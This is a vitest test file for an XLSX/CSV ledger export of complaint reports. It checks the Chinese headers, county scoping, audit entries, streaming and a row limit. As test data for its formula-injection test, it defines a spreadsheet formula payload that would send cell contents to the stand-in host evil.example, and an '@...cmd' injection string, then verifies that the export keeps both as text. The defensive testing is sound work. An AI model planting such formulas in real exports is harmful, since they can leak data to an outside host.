// The inbox's 台账 export (issue 19 item 13): an XLSX an office files, streamed, with the office's
// columns in Chinese, readable values and dates as dates; the CSV with the same columns; exactly the
// reports of the user's scope and filters; text typed like a formula kept as text; one audit entry
// naming who, the filters and the row count, never content.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Writable } from 'node:stream';
import { and, eq, gt, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { parse } from 'csv-parse/sync';
import { fileReport } from '../../../src/reports/index.js';
import { reports } from '../../../src/reports/tables.js';
import { auditLog } from '../../../src/audit/tables.js';
import { childrenOf } from '../../../src/regions/index.js';
import { findUnitByKey } from '../../../src/units/index.js';
import { EXPORT_LIMIT, writeLedgerXlsx } from '../../../src/reports/casework/export.js';
import type { LedgerRow } from '../../../src/reports/casework/repository/inbox.js';
import { makeApp, type TestApp } from '../../helpers/app.js';
import { createStaff, signIn, type Session, type TestStaff } from '../../helpers/staff.js';
import { fileReportIn } from '../../helpers/reports.js';
import { cloneReports } from './inbox-fixtures.js';

const HEADERS = ['编号', '来源', '收到日期', '问题类型', '发生地', '被反映人', '承办单位', '责任人', '交办期限', '法定期限', '状态', '结论', '办结日期', '是否按期'];
const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点此")';
const EVIL_PLACE = '@SUM(1+1)*cmd';
const DESCRIPTION = '村主任把他弟弟一家评成了低保户，家里有两台拖拉机。';

let t: TestApp;
let countyStaff: TestStaff;
let county: Session;
let concluded: number;
let evil: number;
let other: number;
let otherCaseNo: string;
let villageName: string;
let townshipName: string;
const CLONES = 3000;

async function file(subjectName: string | null, placeOther: string | null) {
  const township = (await childrenOf(t.app.db, '220102'))[0]!;
  const village = (await childrenOf(t.app.db, township.code))[0]!;
  [villageName, townshipName] = [village.name, township.name];
  const { report } = await fileReport(
    t.app.deps,
    { category: 'favouritism', placeCode: village.code, placeOther, countyCode: '220102', townshipCode: township.code, subjectName, subjectPosition: 'village_cadre', subjectIsHead: false, description: DESCRIPTION, happenedAt: null, identity: { name: '李秀兰', phone: '13904310000', email: '', address: '' } } as never,
    [],
    { channel: 'phone', nonce: null },
  );
  return report.id;
}

beforeAll(async () => {
  t = await makeApp();
  concluded = await file('王德福', null);
  evil = await file(EVIL_NAME, EVIL_PLACE);
  other = await fileReportIn(t.app, '220103');
  otherCaseNo = (await t.app.db.get<{ case_no: string }>(sql`SELECT case_no FROM reports WHERE id = ${other}`)).case_no;
  countyStaff = await createStaff(t.app, 'ca:220102', ['supervisor', 'intake'], { displayName: '周立新' });
  await t.app.db
    .update(reports)
    .set({ status: 'closed', finding: 'substantiated', assigneeId: countyStaff.user.id, assignedUnitId: (await findUnitByKey(t.app.db, 'ca:220102'))!.id, assignmentDue: '2026-03-20', handlingDue: '2026-04-30', dueOn: null, clockRule: null, concludedAt: Date.parse('2026-04-28T15:00:00+08:00'), receivedAt: Date.parse('2026-03-01T09:30:00+08:00') })
    .where(eq(reports.id, concluded))
    .run();
  // A few thousand more of the county's, to export in several batches.
  await cloneReports(t.app, concluded, CLONES, { newestAt: Date.parse('2026-02-28T10:00:00+08:00') });
  county = await signIn(t.app, countyStaff);
});
afterAll(() => t.close());

async function workbookOf(payload: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(payload as never);
  return workbook.worksheets[0]!;
}

/** The audit entries written while `fn` runs. */
async function auditedDuring(fn: () => Promise<void>) {
  const last = (await t.app.db.get<{ n: number }>(sql`SELECT coalesce(max(id), 0) AS n FROM audit_log`)).n;
  await fn();
  return t.app.db.select().from(auditLog).where(gt(auditLog.id, last)).orderBy(auditLog.id).all();
}

describe('台账 export (XLSX)', () => {
  it('has the office’s columns in Chinese, readable values and dates as dates, for every report in scope', async () => {
    let res!: Awaited<ReturnType<Session['get']>>;
    const entries = await auditedDuring(async () => {
      res = await county.get('/staff/reports.xlsx?sort=newest');
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="reports-\d{4}-\d{2}-\d{2}\.xlsx"; filename\*=UTF-8''/);
    const sheet = await workbookOf(res.rawPayload);
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(HEADERS);
    expect(sheet.actualRowCount).toBe(1 + CLONES + 2);

    const caseNo = (await t.app.db.get<{ case_no: string }>(sql`SELECT case_no FROM reports WHERE id = ${concluded}`)).case_no;
    let row: ExcelJS.Row | undefined;
    sheet.eachRow((r) => {
      if (r.getCell(1).value === caseNo) row = r;
    });
    expect(row).toBeDefined();
    const cell = (header: string) => row!.getCell(HEADERS.indexOf(header) + 1);
    expect(cell('来源').value).toBe('来电');
    expect(cell('收到日期').value).toEqual(new Date('2026-03-01T00:00:00Z'));
    expect(cell('收到日期').numFmt).toBe('yyyy-mm-dd');
    expect(cell('问题类型').value).toBe('优亲厚友');
    expect(cell('发生地').value).toBe(`南关区 ${townshipName} ${villageName}`);
    expect(cell('被反映人').value).toBe('王德福（村干部）');
    expect(cell('承办单位').value).toBe((await findUnitByKey(t.app.db, 'ca:220102'))!.name);
    expect(cell('责任人').value).toBe('周立新');
    expect(cell('交办期限').value).toEqual(new Date('2026-03-20T00:00:00Z'));
    expect(cell('法定期限').value).toEqual(new Date('2026-04-30T00:00:00Z'));
    expect(cell('状态').value).toBe('已办结');
    expect(cell('结论').value).toBe('属实');
    expect(cell('办结日期').value).toEqual(new Date('2026-04-28T00:00:00Z'));
    expect(cell('是否按期').value).toBe('是');

    // Scope: the other county's report is not there; no identity, no report text.
    const text = JSON.stringify(sheet.getSheetValues());
    expect(text).not.toContain(otherCaseNo);
    expect(text).not.toContain('李秀兰');
    expect(text).not.toContain('拖拉机');

    // One audit entry: who, the filters and the row count — no content.
    expect(entries.map((e) => [e.action, e.actorId, e.objectType])).toEqual([['export.xlsx', countyStaff.user.id, 'report_list']]);
    expect(JSON.parse(entries[0]!.detail!)).toEqual({ rows: CLONES + 2, filters: { queue: 'all', sort: 'newest' } });
  });

  it('keeps text typed like a formula as text (no formula in the file, Text format), in XLSX and CSV', async () => {
    const res = await county.get('/staff/reports.xlsx');
    const sheet = await workbookOf(res.rawPayload);
    const caseNo = (await t.app.db.get<{ case_no: string }>(sql`SELECT case_no FROM reports WHERE id = ${evil}`)).case_no;
    let row: ExcelJS.Row | undefined;
    sheet.eachRow((r) => {
      if (r.getCell(1).value === caseNo) row = r;
    });
    const subject = row!.getCell(HEADERS.indexOf('被反映人') + 1);
    expect(subject.type).toBe(ExcelJS.ValueType.String);
    expect(subject.value).toBe(`${EVIL_NAME}（村干部）`);
    expect(subject.formula).toBeUndefined();
    expect(subject.numFmt).toBe('@');
    expect(String(row!.getCell(HEADERS.indexOf('发生地') + 1).value)).toContain(EVIL_PLACE);
    const zip = await JSZip.loadAsync(res.rawPayload);
    for (const name of Object.keys(zip.files).filter((n) => n.startsWith('xl/worksheets/'))) expect(await zip.file(name)!.async('string')).not.toMatch(/<f[ >]/);

    // A subject name that is only the formula starts its cell with "=": the CSV neutralises it.
    await t.app.db.update(reports).set({ subjectPosition: null }).where(eq(reports.id, evil)).run();
    const csv = await county.get('/staff/reports.csv');
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toContain('text/csv');
    const rows = parse(csv.body.replace(/^\ufeff/, '')) as string[][];
    expect(rows[0]).toEqual(HEADERS);
    expect(rows.length).toBe(1 + CLONES + 2);
    const evilRow = rows.find((r) => r[0] === caseNo)!;
    expect(evilRow[HEADERS.indexOf('被反映人')]).toBe(`'${EVIL_NAME}`);
    expect(evilRow[HEADERS.indexOf('发生地')]).toContain(EVIL_PLACE);
    expect(rows.filter((r) => r.some((c) => /^[=+\-@]/.test(c)))).toEqual([]);
    expect(csv.body).not.toContain(otherCaseNo);
  });

  it('exports only the current filter, and the city gets both counties', async () => {
    await t.app.db.update(reports).set({ category: 'connections' }).where(and(eq(reports.id, evil))).run();
    const one = await workbookOf((await county.get('/staff/reports.xlsx?category=connections')).rawPayload);
    expect(one.actualRowCount).toBe(2);
    const city = await signIn(t.app, await createStaff(t.app, 'ca:220100', ['supervisor']));
    const cityCsv = await city.get('/staff/reports.csv?category=favouritism');
    expect(cityCsv.body).toContain(otherCaseNo);
  });

  it('streams: the first bytes leave before the last rows are read', async () => {
    const base = await t.app.db.get<Record<string, unknown>>(sql`SELECT * FROM reports WHERE id = ${concluded}`);
    const sample: LedgerRow = { id: 1, caseNo: 'JL2026-000001', status: 'closed', category: 'favouritism', channel: 'phone', realName: false, receivedAt: Number(base.received_at), dueOn: null, hastenPending: false, placeName: '某村', assignee: '周立新', subjectName: '王德福', subjectPosition: 'village_cadre', handlingUnit: '南关区民政局', assignedUnit: null, assignmentDue: '2026-03-20', countyName: '南关区', townshipName: '某街道', placeOther: null, handlingDue: '2026-04-30', finding: 'substantiated', concludedAt: Date.now() };
    let bytes = 0;
    const seenBeforeLast: number[] = [];
    const out = new Writable({
      write(chunk: Buffer, _enc, done) {
        bytes += chunk.length;
        done();
      },
    });
    async function* batches() {
      for (let b = 0; b < 20; b++) {
        seenBeforeLast.push(bytes);
        yield Array.from({ length: 1000 }, (_, i) => ({ ...sample, id: b * 1000 + i, caseNo: `JL2026-${String(b * 1000 + i).padStart(6, '0')}` }));
      }
    }
    const written = await writeLedgerXlsx(out, batches());
    expect(written).toBe(20_000);
    // 20,000 rows: the file was already flowing out while rows were still being read.
    expect(seenBeforeLast[19]).toBeGreaterThan(0);
  });

  it('refuses more rows than the limit (50,000; 200 here) with a message in the page, the filters kept, and writes no audit entry', async () => {
    // The limit lowered: 50,000 rows cloned took minutes on PostgreSQL, for the same refusal.
    const shipped = EXPORT_LIMIT.maxRows;
    EXPORT_LIMIT.maxRows = 200;
    await cloneReports(t.app, concluded, 200, { prefix: 'JL2098-', newestAt: Date.parse('2026-01-31T10:00:00+08:00'), stepMs: 1000 });
    let res!: Awaited<ReturnType<Session['get']>>;
    let entries: unknown[];
    try {
      entries = await auditedDuring(async () => {
        res = await county.get('/staff/reports.xlsx?status=closed');
      });
    } finally {
      EXPORT_LIMIT.maxRows = shipped;
    }
    expect(res.statusCode).toBe(422);
    expect(res.headers['content-type']).toContain('text/html');
    expect(res.body).toContain('符合当前筛选条件的举报超过200件，一次最多导出200件。');
    expect(res.body).toMatch(/<option value="closed"\s+selected>/);
    expect(entries).toEqual([]);
  }, 120_000);
});
